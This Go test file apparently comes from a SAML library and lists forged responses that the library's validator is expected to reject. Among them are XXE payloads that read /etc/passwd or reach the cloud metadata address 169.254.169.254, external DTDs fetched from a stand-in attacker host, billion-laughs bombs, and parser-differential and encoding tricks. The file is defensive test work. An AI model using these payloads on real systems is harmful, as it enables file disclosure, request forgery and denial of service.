package samltest

import (
	"fmt"
	"strings"
	"unicode/utf16"

	"github.com/sallyport/sallyport/internal/saml"
)

// inFront puts text in front of a signed document.
func inFront(text string) func(*Response) {
	return after(func(doc string) string { return text + doc })
}

// parsers are the attacks on readers of XML by what they read in front.
func parsers() []Attack {
	bomb := `<!ENTITY a "aaaaaaaaaa">`
	for c := 'b'; c <= 'j'; c++ {
		bomb += fmt.Sprintf(`<!ENTITY %c "%s">`, c, strings.Repeat("&"+string(c-1)+";", 10))
	}
	attacks := []Attack{
		{No: 33, Name: "document type", Forge: inFront("<!DOCTYPE samlp:Response>"), Rule: saml.XMLDoctype, Twin: inFront("\n")},
		{No: 33, Name: "document type behind the root", Forge: after(func(doc string) string { return doc + "<!DOCTYPE x>" }), Rule: saml.XMLDoctype},
		{No: 33, Name: "document type in the root", Forge: tamper("<samlp:Status>", "<!DOCTYPE x><samlp:Status>"), Rule: saml.XMLDoctype},
		{No: 33, Name: "document type in small letters", Forge: inFront("<!doctype html>"), Rule: saml.XMLDoctype},
		{No: 33, Name: "external subset", Forge: inFront(`<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">`), Rule: saml.XMLDoctype},
		{No: 33, Name: "public subset", Forge: inFront(`<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "https://evil.example/x.dtd">`), Rule: saml.XMLDoctype},
		{No: 33, Name: "entity of a file", Forge: all(doctype(`<!ENTITY e SYSTEM "file:///etc/passwd">`), tamper(DefaultNameID+"<", "&e;<")), Rule: saml.XMLDoctype},
		{No: 33, Name: "entity of an address", Forge: all(doctype(`<!ENTITY e SYSTEM "http://169.254.169.254/">`), tamper(DefaultNameID+"<", "&e;<")), Rule: saml.XMLDoctype},
		{No: 33, Name: "parameter entity", Forge: doctype(`<!ENTITY % p SYSTEM "https://evil.example/p"> %p;`), Rule: saml.XMLDoctype},
		{No: 33, Name: "billion laughs", Forge: all(doctype(bomb), tamper(DefaultNameID+"<", "&j;<")), Rule: saml.XMLDoctype},
		{No: 33, Name: "quadratic blow-up", Forge: all(doctype(`<!ENTITY a "`+strings.Repeat("a", 50_000)+`">`), tamper(DefaultNameID+"<", strings.Repeat("&a;", 5_000)+"<")), Rule: saml.XMLDoctype},
		{No: 33, Name: "default attribute", Forge: doctype(`<!ATTLIST saml:Assertion ID CDATA #FIXED "x">`), Rule: saml.XMLDoctype},
		{No: 33, Name: "notation", Forge: doctype(`<!NOTATION n SYSTEM "x">`), Rule: saml.XMLDoctype},
		{No: 33, Name: "entity without a document type", Forge: tamper("<samlp:Status>", `<!ENTITY e "x"><samlp:Status>`), Rule: saml.XMLDoctype},
		{No: 33, Name: "entity of nobody", Forge: tamper(DefaultNameID+"<", "&e;<"), Rule: saml.XMLWellFormed,
			Twin: tamper(DefaultNameID+"<", "alice&#64;acme.example<")},
		{No: 34, Name: "two parsers, the start", Forge: inFront(`<!DOCTYPE response SYSTEM 'x"><!--'>`), Rule: saml.XMLDoctype},
		{No: 34, Name: "two parsers, two documents", Forge: after(func(doc string) string {
			return `<!DOCTYPE response SYSTEM 'x"><!--'>` + forgedResponse(doc) + `<![CDATA[-->` + doc + `<!--]]>-->`
		}), Rule: saml.XMLDoctype},
		{No: 34, Name: "the same without a document type", Forge: after(func(doc string) string {
			return `<!--'>` + forgedResponse(doc) + `<![CDATA[-->` + doc + `<!--]]>-->`
		}), Rule: saml.XMLComment},
		{No: 35, Name: "namespace of a signature by a document type", Bases: assertionAlone, Forge: all(
			tamper("</samlp:Status>", "<samlp:StatusDetail><Signature/></samlp:StatusDetail></samlp:Status>"),
			doctype(`<!ATTLIST Signature xmlns CDATA #FIXED "`+nsSignature+`">`)), Rule: saml.XMLDoctype},
		{No: 35, Name: "signature without a namespace in Status", Bases: assertionAlone, Forge: tamper("</samlp:Status>", "<Signature/></samlp:Status>"), Rule: saml.SigPlace, Alone: true},
		{No: 35, Name: "signature without a namespace in StatusDetail", Bases: assertionAlone, Forge: tamper("</samlp:Status>", "<samlp:StatusDetail><Signature/></samlp:StatusDetail></samlp:Status>"), Rule: saml.SigPlace, Alone: true,
			Twin: tamper("</samlp:Status>", "<samlp:StatusDetail><Signed/></samlp:StatusDetail></samlp:Status>")},
		{No: 36, Name: "prefix of the assertion bound to another namespace", Bases: responseAlone, Forge: swap("<saml:Assertion ", `<saml:Assertion xmlns:saml="urn:evil" `), Rule: saml.Shape,
			Twin: swap("<saml:Assertion ", `<saml:Assertion xmlns:evil="urn:evil" `)},
		{No: 36, Name: "prefix of the NameID bound to another namespace", Forge: swap("<saml:NameID ", `<saml:NameID xmlns:saml="urn:evil" `), Rule: saml.Shape,
			Twin: swap("<saml:NameID ", `<saml:NameID xmlns:evil="urn:evil" `)},
		{No: 36, Name: "prefix bound between two elements", Forge: swap("<saml:Conditions ", `<e:Conditions xmlns:e="`+nsAssertion+`"/><saml:Conditions `), Rule: saml.Shape, Alone: true},
		{No: 36, Name: "prefix of SignedInfo bound to another namespace", Forge: onSignature(Replace("<ds:SignedInfo>", `<ds:SignedInfo xmlns:ds="urn:evil">`)), Rule: saml.SigShape, Alone: true},
		{No: 36, Name: "prefix of DigestValue bound to another namespace", Forge: reseal(Replace("<ds:DigestValue>", `<ds:DigestValue xmlns:ds="urn:evil">`)), Rule: saml.SigShape, Alone: true,
			Twin: reseal(Replace("<ds:DigestValue>", `<ds:DigestValue xmlns:e="urn:evil">`))},
		{No: 36, Name: "prefix of SignatureValue bound to another namespace", Forge: onSignature(Replace("<ds:SignatureValue>", `<ds:SignatureValue xmlns:ds="urn:evil">`)), Rule: saml.SigShape, Alone: true,
			Twin: onSignature(Replace("<ds:SignatureValue>", `<ds:SignatureValue xmlns:e="urn:evil">`))},
		{No: 37, Name: "DigestValue in StatusDetail", Bases: assertionAlone, Forge: tamper("</samlp:Status>", `<samlp:StatusDetail>`+part37("DigestValue")+`</samlp:StatusDetail></samlp:Status>`), Rule: saml.SigPlace, Alone: true,
			Twin: tamper("</samlp:Status>", `<samlp:StatusDetail><Digest>AAAA</Digest></samlp:StatusDetail></samlp:Status>`)},
	}
	for _, name := range []string{"Signature", "SignedInfo", "SignatureValue", "Reference", "DigestValue", "CanonicalizationMethod", "SignatureMethod", "SignatureProperties", "Object", "Manifest"} {
		for _, place := range []struct {
			name string
			put  func(content string) func(*Response)
		}{
			{"Extensions", func(content string) func(*Response) {
				return swap("<samlp:Status>", extensions(content)+"<samlp:Status>")
			}},
			{"a value", inValue},
			{"SubjectConfirmationData", func(content string) func(*Response) {
				return before(func(doc string) string { return find(doc, "saml:SubjectConfirmationData").filled(content) })
			}},
			{"the Response", func(content string) func(*Response) { return swap("<samlp:Status>", content+"<samlp:Status>") }},
		} {
			if place.name == "the Response" && name == "Signature" {
				continue // a second signature of its own: XSW13
			}
			attack := Attack{No: 37, Name: name + " in " + place.name, Forge: place.put(part37(name)), Rule: saml.SigPlace, Alone: true}
			if place.name != "the Response" {
				attack.Twin = place.put("<x>AAAA</x>")
			}
			attacks = append(attacks, attack)
		}
	}
	return append(attacks, slices38()...)
}

// part37 is a part of a signature where none belongs.
func part37(name string) string {
	return `<ds:` + name + ` xmlns:ds="` + nsSignature + `">AAAA</ds:` + name + `>`
}

// slices38 are pieces of XML that readers have taken in two ways, where nobody
// signs them. Every one stands beside a twin of the same length or less.
func slices38() []Attack {
	attacks := []Attack{
		{No: 38, Name: "end tag with another prefix", Forge: after(func(doc string) string {
			doc = replaced(doc, "<samlp:Response ", `<samlp:Response xmlns:a="`+nsProtocol+`" `)
			return strings.TrimSuffix(doc, "</samlp:Response>") + "</a:Response>"
		}), Rule: saml.XMLWellFormed},
		{No: 38, Name: "end tag of another element", Forge: tamper("</samlp:Status>", "</samlp:Stat>"), Rule: saml.XMLWellFormed},
		{No: 38, Name: "no end tag", Forge: tamper("</samlp:Response>", ""), Rule: saml.XMLWellFormed},
		{No: 38, Name: "cut off in an entity", Forge: after(func(doc string) string { return strings.TrimSuffix(doc, "</samlp:Response>") + "&am" }), Rule: saml.XMLWellFormed},
		{No: 38, Name: "cut off in a tag", Forge: after(func(doc string) string { return strings.TrimSuffix(doc, ">") }), Rule: saml.XMLWellFormed},
		{No: 39, Name: "attribute of the response twice", Forge: tamper("<samlp:Response ", `<samlp:Response Version="2.0" `), Rule: saml.XMLDupAttr},
		{No: 39, Name: "attribute of the assertion twice", Forge: tamper("<saml:Assertion ", `<saml:Assertion Version="2.0" `), Rule: saml.XMLDupAttr},
		{No: 39, Name: "attribute of the confirmation twice", Forge: tamper("<saml:SubjectConfirmationData ", `<saml:SubjectConfirmationData Recipient="https://other.example" `), Rule: saml.XMLDupAttr},
	}
	const ns = ` xmlns:a="urn:x"`
	for _, tc := range []struct {
		no             Number
		name           string
		hostile, right string
		rule           saml.Rule
	}{
		{38, "two colons at once", `<a::x` + ns + `/>`, `<a:x` + ns + `/>`, saml.XMLWellFormed},
		{38, "two colons", `<a:b:c` + ns + `/>`, `<a:c` + ns + `/>`, saml.XMLWellFormed},
		{38, "colon in front", `<:a/>`, `<a/>`, saml.XMLWellFormed},
		{38, "colon behind", `<a:` + ns + `/>`, `<a` + ns + `/>`, saml.XMLWellFormed},
		{38, "colon for an attribute", `<x :=""/>`, `<x a=""/>`, saml.XMLWellFormed},
		{38, "colon behind an attribute", `<x a:=""` + ns + `/>`, `<x a:b=""` + ns + `/>`, saml.XMLWellFormed},
		{38, "colon behind xmlns", `<x xmlns:="urn:x"/>`, `<x xmlns:a="urn:x"/>`, saml.XMLWellFormed},
		{38, "declaration with comments in it", `<!x <!-- --> <!-- -->>`, `<x/>`, saml.XMLWellFormed},
		{38, "attribute without a value", `<x y/>`, `<x y=""/>`, saml.XMLWellFormed},
		{38, "attribute without quotes", `<x y=1/>`, `<x y="1"/>`, saml.XMLWellFormed},
		{38, "attributes without a space", `<x y="1"z="2"/>`, `<x y="1" z="2"/>`, saml.XMLWellFormed},
		{38, "'<' in an attribute", `<x y="<"/>`, `<x y="&lt;"/>`, saml.XMLWellFormed},
		{38, "']]>' in text", `<x>]]></x>`, `<x>]]&gt;</x>`, saml.XMLWellFormed},
		{38, "bare '&'", `<x>&</x>`, `<x>&amp;</x>`, saml.XMLWellFormed},
		{38, "space before a name", `< x/>`, `<x />`, saml.XMLWellFormed},
		{38, "name from a digit", `<1/>`, `<_1/>`, saml.XMLWellFormed},
		{38, "end tag with an attribute", `<x></x y="">`, `<x></x >`, saml.XMLWellFormed},
		{38, "elements that overlap", `<x><y></x></y>`, `<x><y></y></x>`, saml.XMLWellFormed},
		{39, "unbound prefix", `<b:x/>`, `<b:x xmlns:b="urn:x"/>`, saml.XMLNamespace},
		{39, "unbound prefix of an attribute", `<x b:y=""/>`, `<x b:y="" xmlns:b="urn:x"/>`, saml.XMLNamespace},
		{39, "prefix bound to nothing", `<x xmlns:b=""/>`, `<x xmlns=""/>`, saml.XMLNamespace},
		{39, "xml declared anew", `<x xmlns:xml="urn:x"/>`, `<x xmlns:xm="urn:x"/>`, saml.XMLNamespace},
		{39, "xmlns declared", `<x xmlns:xmlns="urn:x"/>`, `<x xmlns:xmln="urn:x"/>`, saml.XMLNamespace},
		{39, "xmlns used", `<xmlns:x/>`, `<x/>`, saml.XMLNamespace},
		{39, "namespace of XML by another prefix", `<x xmlns:b="http://www.w3.org/XML/1998/namespace"/>`, `<x xmlns:b="http://www.w3.org/XML/1998/names"/>`, saml.XMLNamespace},
		{39, "relative namespace", `<x xmlns:b="b"/>`, `<x xmlns:b="b:b"/>`, saml.XMLNamespace},
		{39, "namespace with a space", `<x xmlns:b="urn:a b"/>`, `<x xmlns:b="urn:a-b"/>`, saml.XMLNamespace},
		{39, "attribute twice", `<x y="1" y="2"/>`, `<x y="1" z="2"/>`, saml.XMLDupAttr},
		{39, "attribute twice by expanded name", `<x xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2"/>`, `<x xmlns:a="urn:x" xmlns:b="urn:y" a:y="1" b:y="2"/>`, saml.XMLDupAttr},
		{39, "attribute twice by an escaped namespace", `<x xmlns:a="urn:x" xmlns:b="urn:&#x78;" a:y="" b:y=""/>`, `<x xmlns:a="urn:x" xmlns:b="urn:&#x79;" a:y="" b:y=""/>`, saml.XMLDupAttr},
		{39, "prefix declared twice", `<x xmlns:a="urn:x" xmlns:a="urn:y"/>`, `<x xmlns:a="urn:x" xmlns:b="urn:y"/>`, saml.XMLDupAttr},
		{39, "default namespace declared twice", `<x xmlns="urn:x" xmlns="urn:x"/>`, `<x xmlns="urn:x"/>`, saml.XMLDupAttr},
	} {
		attacks = append(attacks, Attack{No: tc.no, Name: tc.name, Bases: assertionAlone, Forge: nearby(tc.hostile), Rule: tc.rule, Twin: nearby(tc.right)})
	}
	return append(append(attacks, encodings()...), limits()...)
}

// encodings are octets that two readers take for two texts.
func encodings() []Attack {
	var attacks []Attack
	for name, tc := range map[string]struct {
		hostile, right func(doc string) string
		rule           saml.Rule
	}{
		"UTF-16 with a mark":      {hostile: func(doc string) string { return "\xfe\xff" + units(doc, 1, 0) }},
		"UTF-16LE with a mark":    {hostile: func(doc string) string { return "\xff\xfe" + units(doc, 0, 1) }},
		"UTF-16BE without a mark": {hostile: func(doc string) string { return units(doc, 1, 0) }},
		"UTF-16LE without a mark": {hostile: func(doc string) string { return units(doc, 0, 1) }},
		"UTF-32":                  {hostile: func(doc string) string { return "\x00\x00\xfe\xff" + spread(doc) }},
		"UTF-32 without a mark":   {hostile: spread},
		"UTF-7":                   {hostile: func(doc string) string { return "+ADw-" + strings.TrimPrefix(doc, "<") }},
		"declared Latin-1":        {hostile: declared(`version="1.0" encoding="ISO-8859-1"`), right: declared(`version="1.0" encoding="utf-8" standalone="no"`)},
		"declared UTF-16":         {hostile: declared(`version='1.0' encoding='utf-16'`), right: declared(`version='1.0' encoding='Utf-8'`)},
		"declared US-ASCII":       {hostile: declared(`version="1.0" encoding="US-ASCII"`), right: declared(`version="1.0" encoding="UTF-8"`)},
		"XML 1.1":                 {hostile: declared(`version="1.1"`), right: declared(`version='1.0'`)},
		"XML 1.1 with a line end of its own": {hostile: func(doc string) string {
			return declared(`version="1.1"`)(replaced(doc, "<samlp:Response ", "<samlp:Response\u0085"))
		}, right: declared(`version="1.0" standalone="yes"`)},
		"no version":                     {hostile: declared(`encoding="UTF-8"`), right: declared(`version="1.0" encoding="UTF-8"`)},
		"standalone of neither":          {hostile: declared(`version="1.0" standalone="maybe"`), right: declared(`version="1.0" standalone="yes"`)},
		"declaration out of order":       {hostile: declared(`version="1.0" standalone="yes" encoding="UTF-8"`), right: declared(`version="1.0" encoding="UTF-8" standalone="yes"`)},
		"declaration behind white space": {hostile: func(doc string) string { return " " + declared(`version="1.0"`)(doc) }, right: func(doc string) string { return " " + doc }},
		"two declarations":               {hostile: func(doc string) string { return declared(`version="1.0"`)(declared(`version="1.0"`)(doc)) }, right: declared(`version="1.0"`)},
		"two marks":                      {hostile: func(doc string) string { return "\xef\xbb\xbf\xef\xbb\xbf" + doc }, right: func(doc string) string { return "\xef\xbb\xbf" + declared(`version="1.0"`)(doc) }, rule: saml.XMLWellFormed},
		"NUL behind":                     {hostile: func(doc string) string { return doc + "\x00" }, right: func(doc string) string { return doc + "\n" }},
		"NUL in front":                   {hostile: func(doc string) string { return "\x00" + doc }, right: func(doc string) string { return "\n" + doc }},
	} {
		attack := Attack{No: 40, Name: name, Forge: after(tc.hostile), Rule: saml.XMLEncoding}
		if tc.rule != "" {
			attack.Rule = tc.rule
		}
		if tc.right != nil {
			attack.Twin = after(tc.right)
		}
		attacks = append(attacks, attack)
	}
	// What canonical forms keep, and what they make equal.
	text := func(text string) func(doc string) string { return Replace("<saml:Subject>", text+"<saml:Subject>") }
	value := func(text string) func(doc string) string { return Replace("Alice<", "Ali"+text+"ce<") }
	attr := func(text string) func(doc string) string { return Replace(`FriendlyName="x`, `FriendlyName="x`+text) }
	friendly := func(r *Response) { r.Attributes[0].FriendlyName = "x y" }
	for _, tc := range []struct {
		name                string
		first, wrong, right func(doc string) string
	}{
		{"line end turned to a carriage return that is kept", text("\n"), Replace("\n<saml:Subject>", "&#13;<saml:Subject>"), Replace("\n<saml:Subject>", "\r\n<saml:Subject>")},
		{"carriage return added that is kept", text("\n"), Replace("\n<saml:Subject>", "&#13;\n<saml:Subject>"), Replace("\n<saml:Subject>", "\r<saml:Subject>")},
		{"carriage return that is kept taken away", value("&#13;"), Replace("Ali&#13;ce", "Alice"), Replace("Ali&#13;ce", "Ali&#xD;ce")},
		{"line end in a value turned to a tab", value("\n"), Replace("Ali\nce", "Ali\tce"), Replace("Ali\nce", "Ali&#10;ce")},
		{"space in an attribute turned to a tab that is kept", attr(""), Replace(`"x y"`, `"x&#9;y"`), Replace(`"x y"`, "\"x\ty\"")},
		{"space in an attribute turned to a line end that is kept", attr(""), Replace(`"x y"`, `"x&#10;y"`), Replace(`"x y"`, "\"x\r\ny\"")},
		{"space in an attribute doubled", attr(""), Replace(`"x y"`, `"x  y"`), Replace(`"x y"`, `"x&#32;y"`)},
	} {
		attacks = append(attacks, Attack{No: 41, Name: tc.name, Bases: withAssertion, Forge: all(friendly, before(tc.first), after(tc.wrong)), Rule: saml.SigDigest, Alone: true,
			Twin: all(friendly, before(tc.first), after(tc.right))})
	}
	return attacks
}

// declared puts an XML declaration in front.
func declared(what string) func(doc string) string {
	return func(doc string) string { return "<?xml " + what + "?>" + doc }
}

// units returns a text in UTF-16, its octets in this order.
func units(doc string, high, low int) string {
	var out []byte
	for _, unit := range utf16.Encode([]rune(doc)) {
		pair := [2]byte{}
		pair[1-high], pair[1-low] = byte(unit>>8), byte(unit)
		out = append(out, pair[:]...)
	}
	return string(out)
}

// spread returns a text in UTF-32.
func spread(doc string) string {
	var out []byte
	for _, r := range doc {
		out = append(out, byte(r>>24), byte(r>>16), byte(r>>8), byte(r))
	}
	return string(out)
}
